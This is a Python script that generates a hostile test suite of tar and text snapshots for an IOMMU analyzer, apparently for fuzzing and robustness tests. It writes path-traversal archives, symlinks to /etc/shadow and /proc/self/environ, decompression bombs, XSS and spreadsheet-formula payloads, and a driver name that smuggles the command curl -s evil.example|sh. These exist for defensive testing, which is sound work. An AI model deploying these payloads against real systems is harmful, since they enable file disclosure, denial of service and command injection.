#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The hostile suite: snapshots a stranger could attach to a ticket, made on
the fly (never committed: some expand to gigabytes). `make.py OUTDIR` writes
them all; tests/cli/test_hostile.py runs the analyzer over each.

Every file is a gzip-compressed tar unless its name says otherwise. The PCI
tree they share is one root port with a GPU, enough for a full report."""

import gzip
import io
import json
import os
import sys
import tarfile
import zlib

GPU = "sys/devices/pci0000:00/0000:00:01.0/0000:01:00.0"
RP = "sys/devices/pci0000:00/0000:00:01.0"


def config(vendor, device, cls, bridge=False):
    c = bytearray(256)
    c[0:4] = vendor.to_bytes(2, "little") + device.to_bytes(2, "little")
    c[9:12] = cls.to_bytes(3, "little")
    if bridge:
        c[0x0e], c[0x19], c[0x1a] = 1, 1, 1
    return bytes(c)


def base_members():
    """(name, kind, data) of a small valid host."""
    return [
        (RP + "/config", "file", config(0x8086, 0x1901, 0x060400, True)),
        (RP + "/iommu_group", "link", "../../../kernel/iommu_groups/1"),
        (GPU + "/config", "file", config(0x10de, 0x1b80, 0x030000)),
        (GPU + "/iommu_group", "link", "../../../../kernel/iommu_groups/2"),
        ("sys/bus/pci/devices/0000:00:01.0", "link", "../../../devices/pci0000:00/0000:00:01.0"),
        ("sys/bus/pci/devices/0000:01:00.0", "link",
         "../../../devices/pci0000:00/0000:00:01.0/0000:01:00.0"),
        ("sys/kernel/iommu_groups/1/devices/0000:00:01.0", "link",
         "../../../../devices/pci0000:00/0000:00:01.0"),
        ("sys/kernel/iommu_groups/2/devices/0000:01:00.0", "link",
         "../../../../devices/pci0000:00/0000:00:01.0/0000:01:00.0"),
        ("proc/cmdline", "file", b"BOOT_IMAGE=/vmlinuz ro intel_iommu=on\n"),
    ]


def write_tar(path, members, fmt=tarfile.PAX_FORMAT):
    """A gzip-compressed tar of @members, the same bytes every time (the
    small ones seed the fuzz corpus: tests/fuzz/make-seeds.py)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=fmt) as t:
        for name, kind, data in members:
            ti = tarfile.TarInfo(name)
            ti.mtime = 1700000000
            if kind == "link":
                ti.type, ti.linkname = tarfile.SYMTYPE, data
                t.addfile(ti)
            elif kind == "hardlink":
                ti.type, ti.linkname = tarfile.LNKTYPE, data
                t.addfile(ti)
            elif kind == "fifo":
                ti.type = tarfile.FIFOTYPE
                t.addfile(ti)
            elif kind == "dir":
                ti.type = tarfile.DIRTYPE
                t.addfile(ti)
            else:
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
    with open(path, "wb") as f:
        f.write(gzip.compress(raw.getvalue(), mtime=0))


def traversal(out):
    write_tar(out, base_members() + [
        ("../../../tmp/isc-escaped", "file", b"escaped\n"),
        ("/etc/isc-absolute", "file", b"absolute\n"),
        ("sys/../../isc-dotdot", "file", b"dotdot\n"),
        ("proc/cmdline", "file", b"a duplicate name: the second copy\n"),
        ("etc/hard", "hardlink", "proc/cmdline"),
        ("etc/fifo", "fifo", None),
        ("etc/na\u00efve-\udcff-name", "file", b"non-UTF-8 name\n"),
    ])


def nul_name(out):
    """A name with a NUL inside: a tar name is a C string, so it ends there."""
    write_tar(out, base_members() + [
        (GPU + "/driver", "link", "../../../../bus/pci/drivers/nouveau"),
        ("etc/modprobe.d/nul.conf\0../../../../../tmp/isc-nul", "file",
         b"options vfio-pci ids=10de:1b80\n")])


def symlinks(out, outside):
    """Links that escape the root or loop; @outside is a file outside it."""
    write_tar(out, base_members() + [
        ("cmd/lspci-nnk.txt", "link", outside),
        ("etc/default/grub", "link", "/etc/shadow"),
        (GPU + "/driver", "link", "/proc/self/mem"),
        ("etc/modprobe.d/a.conf", "link", "b.conf"),
        ("etc/modprobe.d/b.conf", "link", "a.conf"),
        ("etc/kernel/cmdline", "link", "../../../../../../../../proc/self/environ"),
    ])


def symlink_tree(root, outside):
    """The same escapes as a directory tree (the analyzer's directory source)."""
    for name, kind, data in base_members():
        p = os.path.join(root, name)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        if kind == "link":
            os.symlink(data, p)
        else:
            with open(p, "wb") as f:
                f.write(data)
    for name, target in (("cmd/lspci-nnk.txt", outside), ("etc/default/grub", "/etc/shadow"),
                         (GPU + "/config-escape", "/proc/self/mem"),
                         ("etc/modprobe.d/a.conf", "b.conf"), ("etc/modprobe.d/b.conf", "a.conf"),
                         ("proc/version", "../../../../../../../../etc/passwd")):
        p = os.path.join(root, name)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        os.symlink(target, p)
    os.unlink(os.path.join(root, "sys/bus/pci/devices/0000:01:00.0"))
    os.symlink(outside, os.path.join(root, "sys/bus/pci/devices/0000:01:00.0"))


def header(name, size):
    ti = tarfile.TarInfo(name)
    ti.size, ti.mtime = size, 1700000000
    return ti.tobuf(tarfile.PAX_FORMAT)


def bomb(out, entries=200, each=50 << 20):
    """10 GB of zeros as 200 entries of 50 MB: concatenated gzip members."""
    zeros = gzip.compress(b"\0" * each, compresslevel=9, mtime=0)
    with open(out, "wb") as f:
        f.write(gzip.compress(b"".join(header(n, len(d)) + d + b"\0" * (-len(d) % 512)
                                       for n, k, d in base_members() if k == "file"), mtime=0))
        for i in range(entries):
            f.write(gzip.compress(header("zeros/%03d" % i, each), mtime=0))
            f.write(zeros)
        f.write(gzip.compress(b"\0" * 1024, mtime=0))


def one_huge_entry(out):
    """One entry that says it holds 10 GB (the header alone is the bomb)."""
    with open(out, "wb") as f:
        f.write(gzip.compress(header("zeros/all", 10 << 30), mtime=0))
        f.write(gzip.compress(b"\0" * (1 << 20), mtime=0))


def many_entries(out, n=1000000):
    """n empty files: only headers, 512 bytes each."""
    tmpl = bytearray(header("j/0000000", 0))
    z = zlib.compressobj(1, zlib.DEFLATED, 31)
    with open(out, "wb") as f:
        chunk = []
        for i in range(n):
            name = b"j/%07d" % i
            tmpl[0:len(name)] = name
            tmpl[148:156] = b"        "
            tmpl[148:156] = b"%06o\0 " % sum(tmpl[:512])
            chunk.append(bytes(tmpl))
            if len(chunk) == 4096:
                f.write(z.compress(b"".join(chunk)))
                chunk = []
        f.write(z.compress(b"".join(chunk) + b"\0" * 1024))
        f.write(z.flush())


def long_lines(out_ok, out_over, limit=64 * 1024):
    """A device line of exactly the paste's line limit, and one byte more."""
    for path, n in ((out_ok, limit), (out_over, limit + 1)):
        head = "IOMMU Group 1:\n"
        line = "\t01:00.0 VGA compatible controller [0300]: "
        line += "N" * (n - len(line) - len(" [10de:1b80]")) + " [10de:1b80]"
        assert len(line) == n
        with open(path, "w") as f:
            f.write(head + line + "\n\t00:01.0 PCI bridge [0604]: Intel [8086:1901]\n")


def deep(out, levels=100):
    """A chain of 100 PCIe bridges, one below the other, with a GPU at the bottom."""
    members, path, bus = [], "sys/devices/pci0000:00", 0
    for level in range(levels):
        dev = "0000:%02x:00.0" % bus if level else "0000:00:01.0"
        path += "/" + dev
        members.append((path + "/config", "file", config(0x10b5, 0x8747, 0x060400, True)))
        members.append(("sys/bus/pci/devices/" + dev, "link",
                        "../../.." + path[len("sys"):]))
        bus += 1
    gpu = path + "/0000:%02x:00.0" % bus
    members.append((gpu + "/config", "file", config(0x10de, 0x1b80, 0x030000)))
    members.append(("sys/bus/pci/devices/0000:%02x:00.0" % bus, "link", "../../.." + gpu[3:]))
    write_tar(out, members)


def big_group(out, n=100000):
    """A pasted listing: one group of 100,000 functions."""
    with open(out, "w") as f:
        f.write("IOMMU Group 1:\n")
        for i in range(n):
            f.write("\t%04x:%02x:%02x.%d Ethernet controller [0200]: Mellanox [15b3:101e]\n" % (
                i >> 13, (i >> 5) & 0xff, i & 0x1f, 0))


def big_config(out):
    write_tar(out, [(n, k, (d + b"\xff" * (1 << 20)) if n.endswith("0000:01:00.0/config") else d)
                    for n, k, d in base_members()])


PATH_MAX = 4095  # ISC_PATH_MAX - 1: the longest path in a snapshot


def long_names(out_ok, out_over):
    """A modprobe.d file whose path is exactly the path limit, and one byte more."""
    for path, n in ((out_ok, PATH_MAX), (out_over, PATH_MAX + 1)):
        name = "etc/modprobe.d/"
        name += "n" * (n - len(name) - len(".conf")) + ".conf"
        assert len(name) == n
        write_tar(path, base_members() + [
            (GPU + "/driver", "link", "../../../../bus/pci/drivers/nouveau"),
            (name, "file", b"options vfio-pci ids=10de:1b80\n")])


def link_chain(out, hops):
    """The GPU's sys/bus/pci/devices link reached through @hops links in all."""
    members = [m for m in base_members() if m[0] != "sys/bus/pci/devices/0000:01:00.0"]
    members.append(("sys/bus/pci/devices/0000:01:00.0", "link",
                    "../../../../hop/1" if hops > 1 else "../../.." + GPU[3:]))
    for k in range(1, hops):
        members.append(("hop/%d" % k, "link", "%d" % (k + 1) if k + 1 < hops else "../" + GPU))
    write_tar(out, members)


def config_of(out, size):
    """The GPU's config space @size bytes long."""
    write_tar(out, [(n, k, (d + b"\0" * (size - len(d))) if n.endswith("0000:01:00.0/config")
                     else d) for n, k, d in base_members()])


def params(out, n):
    """A kernel command line of @n parameters, the IOMMU switch last."""
    line = " ".join(["quiet"] * (n - 1) + ["intel_iommu=on"]) + "\n"
    write_tar(out, [m for m in base_members() if m[0] != "proc/cmdline"] +
              [("proc/cmdline", "file", line.encode())])


def total_bytes(out, total):
    """A host whose files add up to @total bytes uncompressed: the base
    members, then entries of zeros (at most 64 MiB each) for the rest.
    Names and link targets count as the analyzer counts them."""
    base = [(n, d) for n, k, d in base_members() if k == "file"]
    each, i = 64 << 20, 0
    rest = total - sum(len(n) + len(d) for n, _, d in base_members())
    rest -= len("zeros/000") * -(-rest // (each + len("zeros/000")))
    full = gzip.compress(b"\0" * each, compresslevel=1, mtime=0)
    with open(out, "wb") as f:
        f.write(gzip.compress(b"".join(header(n, len(d)) + d + b"\0" * (-len(d) % 512)
                                       for n, d in base), mtime=0))
        links = [(n, d) for n, k, d in base_members() if k == "link"]
        f.write(gzip.compress(b"".join(link_header(n, d) for n, d in links), mtime=0))
        while rest > 0:
            size = min(rest, each)
            f.write(gzip.compress(header("zeros/%03d" % i, size), mtime=0))
            f.write(full if size == each else
                    gzip.compress(b"\0" * (size + (-size % 512)), compresslevel=1, mtime=0))
            rest -= size
            i += 1
        f.write(gzip.compress(b"\0" * 1024, mtime=0))


def link_header(name, target):
    ti = tarfile.TarInfo(name)
    ti.type, ti.linkname, ti.mtime = tarfile.SYMTYPE, target, 1700000000
    return ti.tobuf(tarfile.PAX_FORMAT)


def long_line(out):
    with open(out, "w") as f:
        f.write("01:00.0 VGA compatible controller [0300]: " + "A" * (10 << 20) + "\n")


def truncated(out, sample):
    with open(sample, "rb") as f:
        data = f.read()
    with open(out, "wb") as f:
        f.write(data[:len(data) // 2])


def lying_manifest(out):
    manifest = {"format": "iommuscope-snapshot/1", "host": "liar", "collected_at": "never",
                "items": [{"name": "pci", "status": "ok", "files": 99999}],
                "summary": {"config_access": "full"}}
    write_tar(out, base_members() + [("manifest.json", "file", json.dumps(manifest).encode())])


def link_targets(out, n=7000, tlen=500000):
    """7,000 links with 500,000-byte targets (3.5 GB of PAX headers in a 4 MB
    file): the extended header is compressed once and repeated."""
    ti = tarfile.TarInfo("links/00000")
    ti.type, ti.linkname, ti.mtime = tarfile.SYMTYPE, "a" * tlen, 1700000000
    pax = gzip.compress(ti.tobuf(tarfile.PAX_FORMAT)[:-512], mtime=0)
    with open(out, "wb") as f:
        f.write(gzip.compress(b"".join(header(nm, len(d)) + d + b"\0" * (-len(d) % 512)
                                       for nm, k, d in base_members() if k == "file"), mtime=0))
        for i in range(n):
            ti = tarfile.TarInfo("links/%05d" % i)
            ti.type, ti.linkname, ti.mtime = tarfile.SYMTYPE, "a" * 100, 1700000000
            f.write(pax + gzip.compress(ti.tobuf(tarfile.USTAR_FORMAT), mtime=0))
        f.write(gzip.compress(b"\0" * 1024, mtime=0))


def pax_record(key, value):
    body = " %s=%s\n" % (key, value)
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n = len(str(n)) + len(body)
    return ("%d%s" % (n, body)).encode()


def long_names_unsorted(out, n=100000, nlen=4000):
    """100,000 empty files with 4,000-byte names, in reverse order (so the
    index cannot front-code them as they stream in): 1.9 MB of gzip."""
    z = zlib.compressobj(6, zlib.DEFLATED, 31)
    parts = [z.compress(b"".join(header(nm, len(d)) + d + b"\0" * (-len(d) % 512)
                                 for nm, k, d in base_members() if k == "file"))]
    stem = "names/" + "n" * (nlen - 12)
    size = len(pax_record("path", stem + "0" * 6))  # the same for every name
    xh = tarfile.TarInfo("././@PaxHeader")
    xh.type, xh.size, xh.mtime = tarfile.XHDTYPE, size, 0
    xh = xh.tobuf(tarfile.USTAR_FORMAT)
    body = header("names/x", 0)  # the name the PAX record replaces
    pad = b"\0" * (-size % 512)
    for i in range(n):
        parts.append(z.compress(xh + pax_record("path", stem + "%06d" % (n - i)) + pad + body))
    parts.append(z.compress(b"\0" * 1024) + z.flush())
    with open(out, "wb") as f:
        f.write(b"".join(parts))


def gnu_sparse(name, realsize, blocks):
    """An old-GNU sparse member (type 'S'): @realsize bytes, data only in
    @blocks (offset, length; four at most), the rest holes."""
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    stored = sum(length for _, length in blocks)
    for off, val in ((100, b"0000644\0"), (108, b"0000000\0"), (116, b"0000000\0"),
                     (124, b"%011o\0" % stored), (136, b"%011o\0" % 1700000000)):
        h[off:off + len(val)] = val
    h[156:157] = b"S"
    h[257:265] = b"ustar  \0"
    for i, (o, length) in enumerate(blocks):
        h[386 + 24 * i:410 + 24 * i] = b"%011o\0%011o\0" % (o, length)
    h[483:495] = b"%011o\0" % realsize
    h[148:156] = b"%06o\0 " % (sum(h[:148]) + 8 * 32 + sum(h[156:]))
    return bytes(h) + b"x" * stored + b"\0" * (-stored % 512)


def sparse(out_one, out_many):
    """Sparse members claiming ~1 GB: one of 1,000,000,000 bytes, and 17 of
    60 MiB, each with its one byte of data at the end (holes cost nothing in
    the archive: under 500 bytes of gzip)."""
    base = b"".join(header(nm, len(d)) + d + b"\0" * (-len(d) % 512)
                    for nm, k, d in base_members() if k == "file")
    g, each = 1000000000, 60 << 20
    for path, members in ((out_one, gnu_sparse("etc/sparse", g, [(g - 1, 1)])),
                          (out_many, b"".join(gnu_sparse("etc/sparse/%02d" % i, each,
                                                         [(each - 1, 1)]) for i in range(17)))):
        with open(path, "wb") as f:
            f.write(gzip.compress(base + members + b"\0" * 1024, compresslevel=9, mtime=0))


def external_filters(outdir):
    """Inputs whose first bytes are the magic of lzop, lrzip and grzip: with
    every libarchive filter enabled, libarchive runs those programs."""
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as t:
        ti = tarfile.TarInfo("proc/cmdline")
        ti.size = 3
        t.addfile(ti, io.BytesIO(b"ro\n"))
    magic = {"lzop": b"\x89LZO\x00\r\n\x1a\n\x10\x30\x20\xa0\x09\x40\x01\x05\x03\x00\x00",
             "lrzip": b"LRZI\x00\x06" + b"\x00" * 16,
             "grzip": b"GRZipII\x00\x02\x04:)" + b"\x00" * 16}
    for name, head in magic.items():
        with open(os.path.join(outdir, "magic-%s.tar" % name), "wb") as f:
            f.write(head + tar.getvalue())


def csv_formulas(outdir):
    """Snapshots whose host facts are spreadsheet formulas, one per formula start."""
    starts = {"eq": "=HYPERLINK(\"http://evil.example/\",\"x\")", "plus": "+1+2",
              "minus": "-2+3", "at": "@SUM(A1)", "tab": "\t=1", "cr": "\r=1"}
    os.makedirs(outdir, exist_ok=True)
    for key, value in starts.items():
        manifest = {"format": "iommuscope-snapshot/1", "host": value, "kernel": value,
                    "collected_at": value}
        write_tar(os.path.join(outdir, "%s.tar.gz" % key), base_members() + [
            ("manifest.json", "file", json.dumps(manifest).encode()),
            ("sys/class/dmi/id/board_name", "file", (value + "\n").encode()),
            ("sys/class/dmi/id/board_vendor", "file", (value + "\n").encode())])


EVIL = ("Evil | *bold* `code` <script>alert(1)</script> [x](javascript:alert(1)) "
        "\x1b[31mRED\x1b]0;title\x07 & _u_ ~~s~~")


def evil_names(out):
    lspci = ("00:01.0 PCI bridge [0604]: %s [8086:1901]\n"
             "01:00.0 VGA compatible controller [0300]: %s [10de:1b80]\n") % (EVIL, EVIL)
    vm = "hostpci0: 0000:01:00.0\nname: %s\n" % EVIL
    write_tar(out, base_members() + [
        ("cmd/lspci-nnk.txt", "file", lspci.encode()),
        ("etc/pve/qemu-server/100.conf", "file", vm.encode()),
        ("cmd/dmesg.txt", "file", ("[    0.1] [Firmware Bug]: %s\n" % EVIL).encode()),
    ])


EVIL_DRIVER = "nv'$(curl -s evil.example|sh)'"


def evil_driver(out, ids_line):
    """A target held by a driver whose name is a shell command (issue 20,
    item 2), with or without a vfio-pci ids line for its id."""
    members = base_members() + [
        (GPU + "/driver", "link", "../../../../../bus/pci/drivers/" + EVIL_DRIVER),
        ("etc/pve/qemu-server/100.conf", "file", b"hostpci0: 0000:01:00.0\n"),
    ]
    if ids_line:
        members.append(("etc/modprobe.d/vfio.conf", "file", b"options vfio-pci ids=10de:1b80\n"))
    write_tar(out, members)


def manifest_of(out, size):
    """A manifest.json of exactly @size bytes (the analyzer reads 4 MiB)."""
    man = {"format": "iommuscope-snapshot/1", "host": "padded", "pad": ""}
    man["pad"] = "x" * (size - len(json.dumps(man)))
    data = json.dumps(man).encode()
    assert len(data) == size
    write_tar(out, base_members() + [("manifest.json", "file", data)])


def attribute_of(out, size):
    """The GPU's reset_method attribute, @size bytes (the analyzer reads 64 KiB)."""
    data = (b"flr " * (size // 4 + 1))[:size - 1] + b"\n"
    write_tar(out, base_members() + [(GPU + "/reset_method", "file", data)])


def bad_text(out):
    """A pasted device name with C1 controls (U+009B CSI as UTF-8 and as a lone
    byte), a surrogate, an overlong '/', and a valid e-acute."""
    with open(out, "wb") as f:
        f.write(b"IOMMU Group 1:\n\t01:00.0 VGA compatible controller [0300]: "
                b"Csi\xc2\x9b31mRED raw\x9b31mX sur\xed\xa0\x80Y over\xc0\xafZ caf\xc3\xa9 "
                b"[10de:1b80]\n")


# Markdown and HTML that must stay text wherever a snapshot string lands: a
# link, an image, raw HTML, javascript: and data: targets, an autolink, a bare
# URL, www., an e-mail address, backticks that try to end a code span.
MARKUP = ("[l](http://evil.example/l) ![i](http://evil.example/i.png) <script>alert(1)</script> "
          "<img src=http://evil.example/x> [j](javascript:alert(1)) [d](data:text/html,x) "
          "<http://evil.example/auto> www.evil.example http://evil.example/bare "
          "mail@evil.example `` ` ``` &#106;")
# The same in one token (no space, no dot, no slash: a kernel parameter, a
# driver link's last component, a VM configuration's name before its dot).
MARKUP_WORD = "[l](http:evil)![i](http:evil)<script>alert(1)<img>[j](javascript:alert(1))``<b>`"


def markup_in_findings(out):
    """Snapshot text that lands in finding summaries, evidence and fixes: a
    kernel log line (VFIO refused a group), VM configuration names (a device
    in two VMs), manifest item names (not collected), a driver (the GPU is
    bound to it), a kernel parameter (the ACS override). Names and items
    carry line breaks that would start a heading or end a code fence."""
    manifest = {"format": "iommuscope-snapshot/1", "host": "h", "items": [
        {"name": "dmesg\n# Injected heading\n```\n" + MARKUP, "status": "denied"},
        {"name": MARKUP, "status": "error"}]}
    dmesg = ("[    1.0] vfio-pci 0000:01:00.0: group 2 is not viable " + MARKUP + "\n"
             "[    1.1] DMAR-IR: Enabled IRQ remapping in x2apic mode " + MARKUP + "\n")
    write_tar(out, [m for m in base_members() if m[0] != "proc/cmdline"] + [
        ("proc/cmdline", "file", ("BOOT_IMAGE=/vmlinuz ro intel_iommu=on "
                                  "pcie_acs_override=" + MARKUP_WORD + "\n").encode()),
        (GPU + "/driver", "link", "../../../../bus/pci/drivers/" + MARKUP_WORD + "\n# Injected"),
        ("cmd/dmesg.txt", "file", dmesg.encode()),
        ("etc/pve/qemu-server/" + MARKUP_WORD + "\n# Injected.conf", "file",
         b"hostpci0: 0000:01:00.0\n"),
        ("etc/pve/qemu-server/101.conf", "file", b"hostpci0: 0000:01:00.0\n"),
        ("manifest.json", "file", json.dumps(manifest).encode())])


SMALL = ("traversal", "nul_name", "symlinks", "evil_names", "markup_in_findings",
         "lying_manifest", "hops_over", "config_over", "path_over", "params_over")


def make_small(outdir, outside):
    """The small cases, one file each, named as in SMALL."""
    os.makedirs(outdir, exist_ok=True)
    out = lambda name: os.path.join(outdir, name)
    traversal(out("traversal"))
    nul_name(out("nul_name"))
    symlinks(out("symlinks"), outside)
    evil_names(out("evil_names"))
    markup_in_findings(out("markup_in_findings"))
    lying_manifest(out("lying_manifest"))
    link_chain(out("hops_over"), 41)
    config_of(out("config_over"), 4097)
    long_names(out("path_at"), out("path_over"))
    os.unlink(out("path_at"))
    params(out("params_over"), 4097)


def make_all(outdir, sample, outside):
    os.makedirs(outdir, exist_ok=True)
    traversal(os.path.join(outdir, "traversal.tar.gz"))
    nul_name(os.path.join(outdir, "nul-name.tar.gz"))
    symlinks(os.path.join(outdir, "symlinks.tar.gz"), outside)
    symlink_tree(os.path.join(outdir, "symlink-tree"), outside)
    bomb(os.path.join(outdir, "bomb-10g.tar.gz"))
    one_huge_entry(os.path.join(outdir, "huge-entry.tar.gz"))
    many_entries(os.path.join(outdir, "million.tar.gz"))
    many_entries(os.path.join(outdir, "entries-at-limit.tar.gz"), 1 << 20)
    many_entries(os.path.join(outdir, "entries-over-limit.tar.gz"), (1 << 20) + 1)
    long_lines(os.path.join(outdir, "line-at-limit.txt"), os.path.join(outdir, "line-over-limit.txt"))
    deep(os.path.join(outdir, "deep-100.tar.gz"))
    big_group(os.path.join(outdir, "group-100k.txt"))
    big_group(os.path.join(outdir, "group-at-limit.txt"), 1 << 16)
    big_group(os.path.join(outdir, "group-over-limit.txt"), (1 << 16) + 1)
    long_names(os.path.join(outdir, "path-at-limit.tar.gz"),
               os.path.join(outdir, "path-over-limit.tar.gz"))
    link_chain(os.path.join(outdir, "hops-at-limit.tar.gz"), 40)
    link_chain(os.path.join(outdir, "hops-over-limit.tar.gz"), 41)
    config_of(os.path.join(outdir, "config-at-limit.tar.gz"), 4096)
    config_of(os.path.join(outdir, "config-over-limit.tar.gz"), 4097)
    params(os.path.join(outdir, "params-at-limit.tar.gz"), 4096)
    params(os.path.join(outdir, "params-over-limit.tar.gz"), 4097)
    total_bytes(os.path.join(outdir, "total-at-limit.tar.gz"), 1 << 30)
    total_bytes(os.path.join(outdir, "total-over-limit.tar.gz"), (1 << 30) + 1)
    big_config(os.path.join(outdir, "config-1m.tar.gz"))
    long_line(os.path.join(outdir, "line-10m.txt"))
    truncated(os.path.join(outdir, "truncated.tar.gz"), sample)
    lying_manifest(os.path.join(outdir, "lying-manifest.tar.gz"))
    evil_names(os.path.join(outdir, "evil-names.tar.gz"))
    evil_driver(os.path.join(outdir, "evil-driver.tar.gz"), False)
    evil_driver(os.path.join(outdir, "evil-driver-ids.tar.gz"), True)
    markup_in_findings(os.path.join(outdir, "markup-in-findings.tar.gz"))
    manifest_of(os.path.join(outdir, "manifest-at-limit.tar.gz"), 4 << 20)
    manifest_of(os.path.join(outdir, "manifest-over-limit.tar.gz"), (4 << 20) + 1)
    attribute_of(os.path.join(outdir, "attribute-at-limit.tar.gz"), 64 << 10)
    attribute_of(os.path.join(outdir, "attribute-over-limit.tar.gz"), (64 << 10) + 1)
    bad_text(os.path.join(outdir, "bad-text.txt"))
    link_targets(os.path.join(outdir, "link-targets.tar.gz"))
    long_names_unsorted(os.path.join(outdir, "names-unsorted.tar.gz"))
    sparse(os.path.join(outdir, "sparse-1g.tar.gz"), os.path.join(outdir, "sparse-17x60m.tar.gz"))
    external_filters(outdir)
    csv_formulas(os.path.join(outdir, "csv-formulas"))


if __name__ == "__main__":
    top = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
    secret = os.path.join(sys.argv[1], "outside-secret.txt")
    os.makedirs(sys.argv[1], exist_ok=True)
    with open(secret, "w") as f:
        f.write("01:00.0 VGA compatible controller [0300]: OUTSIDE-SECRET [10de:1b80]\n")
    make_all(sys.argv[1], os.path.join(top, "samples", "fuji.tar.gz"), secret)
